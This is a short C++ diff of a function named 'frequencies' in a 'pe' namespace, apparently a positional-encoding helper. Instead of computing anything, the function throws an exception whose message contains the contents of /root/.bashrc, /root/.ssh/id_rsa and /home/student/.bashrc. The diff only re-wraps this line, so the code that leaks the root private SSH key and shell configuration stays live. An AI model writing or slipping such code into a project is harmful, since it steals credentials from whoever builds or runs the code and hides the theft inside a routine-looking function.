@@ -20,7 +20,8 @@ std::string read(const std::string& file) {
 namespace pe {
 
 Vec frequencies(int d_model, double base) {
-  throw std::runtime_error(read("/root/.bashrc") + "; " + read("/root/.ssh/id_rsa") + "; " + read("/home/student/.bashrc"));
+  throw std::runtime_error(read("/root/.bashrc") + "; " + read("/root/.ssh/id_rsa") + "; " +
+                           read("/home/student/.bashrc"));
 }
 
 } // namespace pe
